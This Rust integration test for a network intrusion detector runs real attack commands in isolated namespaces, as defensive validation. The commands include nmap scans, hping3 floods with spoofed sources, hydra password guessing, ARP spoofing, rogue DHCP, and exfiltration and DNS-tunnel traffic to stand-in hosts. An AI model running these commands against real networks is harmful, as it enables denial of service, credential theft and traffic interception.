//! Every row of the table of detectors both ways: a real attack by real tools against real servers
//! is noticed within ten seconds, and what looks like it is left alone.
//!
//! Three hosts in network namespaces, captured live where the servers are, through the packet
//! path, by the detectors: as in the program, without its threads. Needs root and the tools; says
//! what it lacks where it skips. What takes hours is played in `simulated.rs`.

#![cfg(target_os = "linux")]
#![allow(clippy::disallowed_methods, reason = "captures live, starts tools and servers")]
#![allow(clippy::disallowed_types, reason = "threads of a test share what they found")]
#![allow(clippy::disallowed_macros, reason = "a skipped test says why, and what it found")]

#[path = "../../flowtrack-respond/tests/net/mod.rs"]
mod net;
mod servers;

use flowtrack_capture::{Burst, LiveConfig, open_live};
use flowtrack_detect::{Config, DetectorSet, Networks};
use flowtrack_engine::{Config as EngineConfig, Engine, Output, Seed, Tell};
use flowtrack_event::{Detection, Event, Severity, Timestamp};
use net::{ATTACKER, NEIGHBOUR, Net, TARGET};
use servers::{Servers, guess, inside, words};
use std::fs;
use std::net::IpAddr;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::process::CommandExt as _;
use std::process::{Child, Command, Stdio};
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant, SystemTime};

/// How soon an attack has to be noticed.
const SOON: Duration = Duration::from_secs(10);
/// How long one waits for word of what is harmless, after its end.
const QUIET: Duration = Duration::from_millis(2_500);
/// How a script ends that could not do what it is there for.
const FAILED: i32 = 9;
/// Address of the target that is no private one, for what goes out of the house.
const OUTSIDE: &str = "198.51.100.1";

/// An attack and what looks like it. Both are given to `sh`: `$A`, `$N` and `$T` run a command on
/// the attacker, its neighbour and the target, `$a`, `$n`, `$t` and `$out` are addresses, `$D` is
/// a folder, `$S` is `ssh` without questions.
struct Row {
    /// Detector and kind; any kind where it ends with `/`.
    says: &'static str,
    source: Source,
    device: &'static str,
    attack: &'static str,
    harmless: &'static str,
}

/// Whom the detection names.
#[derive(Clone, Copy)]
enum Source {
    Attacker,
    Loopback,
    /// Nobody, and nobody is proved.
    Nobody,
    /// Whoever owns what was found, or nobody at all.
    Any,
}

const fn row(
    says: &'static str,
    source: Source,
    attack: &'static str,
    harmless: &'static str,
) -> Row {
    Row { says, source, device: "br0", attack, harmless }
}

use Source::{Any, Attacker, Loopback, Nobody};

const ROWS: &[Row] = &[
    // Scans.
    row("port_scan/vertical", Attacker, "$A nmap -n -sS $t", "$A curl -s http://$t/[1-101]"),
    row("port_scan/vertical", Attacker, "$A nmap -n -sT $t", "$A nmap -n -Pn -sT -p 20-30 $t"),
    row(
        "port_scan/vertical",
        Attacker,
        "$A nmap -n -Pn -sU --top-ports 60 --max-retries 0 $t",
        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t www$i.good.test; done",
    ),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sF $t", ""),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sN $t", ""),
    row("port_scan/odd_flags", Attacker, "$A nmap -n -Pn -sX $t", ""),
    row("port_scan/vertical", Attacker, "$A nmap -n -Pn -sA $t", ""),
    row("port_scan/arp", Attacker, "$A nmap -n -sn 10.77.0.0/24", "$A ping -q -c 3 -i 0.3 $t"),
    Row { device: "lo", ..row("port_scan/vertical", Loopback, "$T nmap -n -sS localhost", "") },
    // Floods.
    row(
        "syn_flood/one_source",
        Attacker,
        "$A timeout --foreground 3 hping3 -q -S -p 80 --flood $t",
        "$A curl -s --parallel --parallel-max 20 http://$t/[1-600]",
    ),
    row(
        "syn_flood/spoofed",
        Nobody,
        "$A timeout --foreground 3 hping3 -q -S -p 80 --flood --rand-source $t",
        "$A curl -s -o /dev/null http://$t/big",
    ),
    Row {
        device: "lo",
        ..row(
            "syn_flood/one_source",
            Loopback,
            "$T timeout --foreground 3 hping3 -q -S -p 80 --flood 127.0.0.1",
            "$T curl -s -o /dev/null http://127.0.0.1/big",
        )
    },
    row(
        "connection_flood/useless",
        Attacker,
        "$A timeout --foreground 4 hping3 -q -S -p 81 -i u5000 $t",
        "for i in $(seq 30); do $A curl -s http://$t:81/; done",
    ),
    row("ddos/source", Attacker, "$A timeout --foreground 3 hping3 -q --udp -p 9 --flood $t", ""),
    row(
        "ddos/",
        Attacker,
        "$A timeout --foreground 3 hping3 -q --icmp --flood $t",
        "$A ping -q -c 20 -i 0.05 $t",
    ),
    row(
        "ddos/target",
        Nobody,
        "$A timeout --foreground 3 hping3 -q --udp -p 9 --flood --rand-source $t",
        "$A curl -s -o /dev/null -H Expect: -T $D/web/big http://$t/up",
    ),
    row(
        "ddos/reflection",
        Nobody,
        "$A timeout --foreground 3 hping3 -q --udp -s 123 -k -p 4444 -d 440 -i u1000 --rand-source $t",
        "for i in $(seq 100); do $T dig +tries=1 +time=1 @$t www$i.good.test; done",
    ),
    // Passwords.
    row(
        "brute_force/guessing",
        Attacker,
        "$A $HYDRA_SSH",
        "for i in $(seq 20); do $A $S -i $D/user -o BatchMode=yes root@$t true || exit 9; done; \
         for i in 1 2 3; do $A $S -o PubkeyAuthentication=no root@$t true; done; \
         $A $S -i $D/user -o BatchMode=yes root@$t true; \
         head -c 20000000 /dev/zero | $A $S -i $D/user -o BatchMode=yes root@$t 'cat > /dev/null'",
    ),
    row(
        "brute_force/guessing",
        Attacker,
        "$A $HYDRA_FTP",
        "for i in 1 2 3; do $A curl -s ftp://me:wrong@$t/; done",
    ),
    row(
        "brute_force/guessing",
        Attacker,
        "for i in $(seq 15); do $A curl -s -u admin:guess$i http://$t/private/; done",
        "for i in 1 2 3; do $A curl -s -u admin:guess$i http://$t/private/; done; \
         $A curl -s http://$t/missing/[1-40]; \
         for i in $(seq 20); do $A curl -s -u admin:unguessable http://$t/private/; done",
    ),
    row(
        "brute_force/spraying",
        Attacker,
        "for i in $(seq 24); do $A curl -s ftp://user$i:Winter2026@$t/ & done; wait",
        "for i in 1 2 3; do $A curl -s ftp://user$i:Winter2026@$t/; done",
    ),
    // What leaves the house.
    row(
        "beacon/calls",
        Attacker,
        "for i in $(seq 30); do $A curl -s http://$out/task & sleep 0.28; done",
        "for pause in .1 .9 .02 .4 .03 .7 .01 .2 .05 1.1 .02 .3 .6 .01 .15 .8 .04 .01 .5 .1 .9 .02 \
         .3 .01 .07; do $A curl -s http://$out/page$pause; sleep $pause; done",
    ),
    row(
        "exfiltration/",
        Attacker,
        "for i in $(seq 8); do head -c 200000 /dev/zero | $A curl -s -H Expect: -T - http://$out/up; sleep 0.7; \
         done; $A curl -s -H Expect: -T $D/web/big http://$out/up",
        "for i in $(seq 5); do $A curl -s http://$out/; sleep 0.8; done; \
         $A curl -s -o /dev/null http://$out/big; $A curl -s -H Expect: -T $D/web/big http://$t/up",
    ),
    row(
        "dns_tunnel/tunnel",
        Attacker,
        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t \
         $(head -c 30 /dev/urandom | base32 -w0 | tr A-Z= a-zx).t.evil.test; done",
        "for i in $(seq 60); do $A dig +tries=1 +time=1 @$t www$i.shop$i.good.test; done",
    ),
    row(
        "dns_tunnel/dga",
        Attacker,
        "for i in $(seq 40); do $A dig +tries=1 +time=1 @$t \
         $(head -c 10 /dev/urandom | base32 -w0 | tr A-Z= a-zx).com; done",
        "for i in $(seq 8); do $A dig +tries=1 +time=1 @$t mistyped$i.com; done",
    ),
    // The local link.
    row(
        "layer2/arp_spoofing",
        Any,
        "for H in \"$A\" \"$N\"; do $H ip neigh flush all; $H ping -q -c 1 $t; done; \
         $A nping -q -c 6 --delay 200ms --arp --arp-type ARP-reply --arp-sender-ip $n \
         --arp-sender-mac $(cat $D/mac.a) --arp-target-ip $t --arp-target-mac $(cat $D/mac.t) \
         --dest-mac $(cat $D/mac.t) $t",
        "for i in 1 2 3 4; do for H in \"$A\" \"$N\"; do $H ip neigh flush all; \
         $H ping -q -c 1 $t; done; done",
    ),
    row(
        "layer2/duplicate_address",
        Any,
        "$A ip addr add $n/32 dev eth0; for i in 1 2 3 4 5; do for H in \"$A\" \"$N\"; do \
         $H ip neigh flush all; $H ping -q -c 1 -W 1 -I $n $t; done; done; \
         $A ip addr del $n/32 dev eth0",
        "$A ip addr add 10.77.0.44/32 dev eth0; for i in 1 2 3; do for F in $a 10.77.0.44; do \
         $A ip neigh flush all; $A ping -q -c 1 -W 1 -I $F $t; done; done; \
         $A ip addr del 10.77.0.44/32 dev eth0",
    ),
    row(
        "layer2/new_device",
        Any,
        "$A ip neigh flush all; $A ping -q -c 7 -i 0.5 $t; $N ip link set eth0 down; \
         $N ip link set eth0 address 02:00:00:00:00:99; $N ip link set eth0 up; \
         $N ping -q -c 2 -i 0.3 $t; $N ip link set eth0 address $(cat $D/mac.n)",
        "for i in 1 2; do for H in \"$A\" \"$N\"; do $H ip neigh flush all; $H ping -q -c 1 $t; done; \
         sleep 3; done",
    ),
    row(
        "layer2/rogue_dhcp",
        Attacker,
        "$T $DHCP --listen-address=$t --interface=br0 & sleep 0.5; $N $ASK; \
         $A $DHCP --listen-address=$a --interface=eth0 & sleep 0.5; $N $ASK; $N $ASK",
        "$T $DHCP --listen-address=$t --interface=br0 & sleep 0.5; $N $ASK; $A $ASK; $N $ASK",
    ),
    // What makes attacks easy.
    row(
        "hygiene/clear_text_login",
        Attacker,
        "$A curl -s ftp://me:secret@$t/",
        "$A curl -s http://$t/; $A $S -i $D/user -o BatchMode=yes root@$t true",
    ),
    row(
        "hygiene/self_signed_certificate",
        Attacker,
        "$A curl -sk https://$t/",
        "$A curl -sk https://$t:9443/",
    ),
    row("hygiene/expired_certificate", Attacker, "$A curl -sk https://$t:8443/", ""),
    row(
        "hygiene/old_tls",
        Attacker,
        "$A curl -sk --tlsv1.0 --tls-max 1.1 --ciphers DEFAULT@SECLEVEL=0 https://$t:7443/",
        "",
    ),
    row(
        "hygiene/old_ssh",
        Attacker,
        "$T ncat -l 2222 -c 'printf \"SSH-2.0-OpenSSH_5.3\\r\\n\"; sleep 1' & sleep 0.3; \
         $A $S -p 2222 root@$t true",
        "",
    ),
    row(
        "hygiene/wrong_port",
        Attacker,
        "$A $S -p 3306 -i $D/user -o BatchMode=yes root@$t true",
        "$A $S -i $D/user -o BatchMode=yes root@$t true; $A curl -s http://$t/",
    ),
];

#[test]
fn attacks_are_noticed_within_ten_seconds_and_what_looks_like_them_is_not() {
    let Some(lab) = Lab::new() else { return };
    let only = std::env::var("FLOWTRACK_ROW").unwrap_or_default();
    let mut wrong = Vec::new();
    for row in ROWS.iter().filter(|row| row.says.contains(&only)) {
        let found = lab.watch(row.device, row.attack, Some(row.says));
        let shown: Vec<_> = found
            .iter()
            .map(|(at, d)| format!("{:.1} s {}/{}", at.as_secs_f64(), d.detector, d.kind))
            .collect();
        println!("{}: {}", row.says, shown.join(", "));
        match found.iter().find(|(_, d)| is_it(d, row.says)) {
            None => wrong.push(format!("{}: not noticed: {}: {shown:?}", row.says, row.attack)),
            Some((at, _)) if *at > SOON => wrong.push(format!("{}: late: {shown:?}", row.says)),
            Some((_, found)) if !is_from(found, row.source) => {
                wrong.push(format!("{}: wrong source: {found:#?}", row.says));
            }
            Some(_) => {}
        }
        if row.harmless.is_empty() {
            continue;
        }
        for (_, d) in lab.watch(row.device, row.harmless, None) {
            println!("    {} {}/{}: {}", d.severity.name(), d.detector, d.kind, d.title);
            if is_it(&d, row.says) || d.severity > Severity::Low {
                wrong.push(format!("{}: harmless: {}", row.says, d.title));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn is_it(said: &Detection, says: &str) -> bool {
    let (detector, kind) = says.split_once('/').unwrap();
    said.detector == detector && (kind.is_empty() || said.kind == kind)
}

fn is_from(said: &Detection, source: Source) -> bool {
    let expected = match source {
        Attacker => ATTACKER[0],
        Loopback => "127.0.0.1",
        Nobody => return said.source.is_none() && !said.source_proved,
        Any => return true,
    };
    said.source == Some(expected.parse::<IpAddr>().unwrap())
}

/// What is learned and awaited is so little that a test has time for it; the thresholds of attacks
/// are those of everybody.
fn config() -> Config {
    let mut config = Config::default();
    config.beacon.min_interval = 0.2;
    config.exfiltration.interval = 1;
    config.exfiltration.min_bytes = 20_000_000;
    config.exfiltration.warm_up = 4;
    config.layer2.learning = 2;
    config
}

/// Three hosts, one of which has servers.
struct Lab {
    _servers: Servers,
    _resolver: Resolver,
    folder: tempfile::TempDir,
    net: Net,
}

/// A name server that knows `good.test`, and that nothing else exists; stopped on drop.
struct Resolver(Child);

impl Drop for Resolver {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

impl Lab {
    fn new() -> Option<Self> {
        let tools =
            ["sh", "nmap", "nping", "hping3", "curl", "dig", "dnsmasq", "busybox", "ncat", "ssh"];
        let programs: Vec<_> = tools.iter().chain(&servers::PROGRAMS).copied().collect();
        let net = Net::new(&programs)?;
        net.ip("t", &format!("addr add {OUTSIDE}/32 dev br0"));
        for host in ["a", "n"] {
            net.ip(host, &format!("route add 198.51.100.0/24 via {}", TARGET[0]));
        }
        let folder = tempfile::tempdir().unwrap();
        let servers = Servers::start(&net.name("t"), folder.path());
        let resolver = format!(
            "dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
             --bind-interfaces --listen-address={} --user=root --pid-file= --local=/com/ \
             --local=/test/ --address=/good.test/10.77.0.1",
            TARGET[0]
        );
        let resolver = Resolver(inside(&net.name("t"), &words(&resolver)).spawn().unwrap());
        for (host, device) in [("a", "eth0"), ("n", "eth0"), ("t", "br0")] {
            let path = format!("/sys/class/net/{device}/address");
            let read = Command::new("ip")
                .args(["netns", "exec", &net.name(host), "cat", &path])
                .output()
                .unwrap();
            fs::write(folder.path().join(format!("mac.{host}")), read.stdout.trim_ascii()).unwrap();
        }
        let ask = folder.path().join("ask");
        fs::write(&ask, "#!/bin/sh\necho wrong\n").unwrap();
        fs::set_permissions(&ask, fs::Permissions::from_mode(0o755)).unwrap();
        let lab = Self { _servers: servers, _resolver: resolver, folder, net };
        lab.wait_for_servers();
        Some(lab)
    }

    fn wait_for_servers(&self) {
        let begun = Instant::now();
        let open = |port: u16| {
            let test = format!("exec 3<>/dev/tcp/{}/{port}", TARGET[0]);
            let words = ["bash", "-c", &test].map(str::to_owned);
            inside(&self.net.name("a"), &words).status().unwrap().success()
        };
        while ![21, 22, 53, 80, 443, 3306].into_iter().all(open) {
            assert!(begun.elapsed() < Duration::from_secs(20), "a server does not listen");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    /// Starts a script, as the head of a process group.
    fn start(&self, script: &str) -> Child {
        let on = |host: &str| format!("ip netns exec {}", self.net.name(host));
        let folder = self.folder.path();
        let ssh = "ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
                   -o ConnectTimeout=10 -o IdentitiesOnly=yes -o NumberOfPasswordPrompts=1";
        let dhcp = "dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --bind-interfaces \
                    --dhcp-range=10.77.0.100,10.77.0.200,1h --leasefile-ro --user=root --pid-file= \
                    --dhcp-authoritative --no-ping";
        let ask = "busybox udhcpc -i eth0 -n -q -t 2 -T 1 -s /bin/true";
        Command::new("sh")
            .args(["-c", script])
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin")
            .envs([("A", on("a")), ("N", on("n")), ("T", on("t"))])
            .envs([("a", ATTACKER[0]), ("n", NEIGHBOUR[0]), ("t", TARGET[0]), ("out", OUTSIDE)])
            .envs([("S", ssh), ("DHCP", dhcp), ("ASK", ask), ("SSH_ASKPASS_REQUIRE", "force")])
            .envs([("D", folder.as_os_str()), ("SSH_ASKPASS", folder.join("ask").as_os_str())])
            .env("HYDRA_SSH", guess(folder, "ssh", TARGET[0]).join(" "))
            .env("HYDRA_FTP", guess(folder, "ftp", TARGET[0]).join(" "))
            .current_dir(folder)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .process_group(0)
            .spawn()
            .unwrap()
    }

    /// What detectors say of a script with the time since it began: until they said `awaited`, at
    /// most for ten seconds; or until a while after its end.
    fn watch(
        &self,
        device: &str,
        script: &str,
        awaited: Option<&str>,
    ) -> Vec<(Duration, Detection)> {
        let told: Mutex<Vec<(Instant, Detection)>> = Mutex::default();
        let (stop, ready) = (AtomicBool::new(false), AtomicBool::new(false));
        let mut begin = Instant::now();
        std::thread::scope(|scope| {
            let capture = scope.spawn(|| {
                self.net.inside("t", || capture(device, &stop, &ready, &told));
            });
            while !ready.load(Ordering::Relaxed) && !capture.is_finished() {
                std::thread::sleep(Duration::from_millis(10));
            }
            begin = Instant::now();
            let mut child = self.start(script);
            let mut ended = None;
            loop {
                std::thread::sleep(Duration::from_millis(50));
                if ended.is_none()
                    && let Some(status) = child.try_wait().unwrap()
                {
                    assert_ne!(status.code(), Some(FAILED), "{script}");
                    ended = Some(Instant::now());
                }
                let is_over = match awaited {
                    Some(says) => {
                        let is_told = told.lock().unwrap().iter().any(|(_, d)| is_it(d, says));
                        is_told || begin.elapsed() > SOON
                    }
                    None => ended.is_some_and(|at| at.elapsed() > QUIET),
                };
                if is_over {
                    break;
                }
            }
            let group = format!("-{}", child.id());
            let _ = Command::new("kill").args(["--", &group]).stderr(Stdio::null()).status();
            let _ = child.wait();
            stop.store(true, Ordering::Relaxed);
        });
        let told = told.into_inner().unwrap();
        told.into_iter().map(|(at, d)| (at.saturating_duration_since(begin), d)).collect()
    }
}

/// Captures until told to stop.
fn capture(
    device: &str,
    stop: &AtomicBool,
    ready: &AtomicBool,
    told: &Mutex<Vec<(Instant, Detection)>>,
) {
    let interfaces = vec![device.to_owned()];
    let live = LiveConfig { interfaces, promiscuous: true, ..LiveConfig::default() };
    let mut source = open_live(&live, 1).unwrap().remove(0);
    let tell = Tell::LIVE.for_detectors();
    let mut engine =
        Engine::new(&EngineConfig { tell, ..EngineConfig::default() }, 0, Seed([1, 2, 3, 4]));
    let mut set = DetectorSet::new(&config(), Networks::default());
    let mut out = Output::default();
    let mut said = Vec::new();
    ready.store(true, Ordering::Relaxed);
    while !stop.load(Ordering::Relaxed) {
        let burst = source
            .next_burst(Duration::from_millis(100), &mut |b, _| engine.process(b, &mut out))
            .unwrap();
        if burst == Burst::Idle {
            engine.tick(now(), &mut out);
        }
        set.ingest(&out.events, &mut said);
        out.events.clear();
        set.tick(now(), &mut said);
        for event in said.drain(..) {
            if let Event::Detection(detection) = event {
                told.lock().unwrap().push((Instant::now(), *detection));
            }
        }
    }
}

fn now() -> Timestamp {
    let since = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap();
    Timestamp::from_nanos(since.as_nanos() as i64)
}
